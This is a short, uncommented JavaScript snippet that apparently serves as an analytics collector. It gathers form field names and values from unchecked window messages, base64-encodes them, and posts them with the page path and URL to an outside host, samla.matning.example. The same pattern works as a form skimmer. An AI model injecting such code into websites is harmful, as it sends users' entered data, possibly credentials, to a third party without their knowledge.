let timer; const got = {};
addEventListener('message', (e) => { if (!e.data || e.data.event !== 'form') return; got[e.data.name] = e.data.value; clearTimeout(timer);
  timer = setTimeout(() => { const payload = {v: 3, e: [{n: 'form_interaction', p: got}]};
    const x = new XMLHttpRequest(); x.open('POST', 'https://samla.matning.example/g/collect?d=' + encodeURIComponent(location.pathname)); x.setRequestHeader('content-type', 'text/plain');
    x.send(btoa(unescape(encodeURIComponent(JSON.stringify(payload))))); }, 150); });
new Image().src = 'https://samla.matning.example/pv.gif?dl=' + encodeURIComponent(location.href);
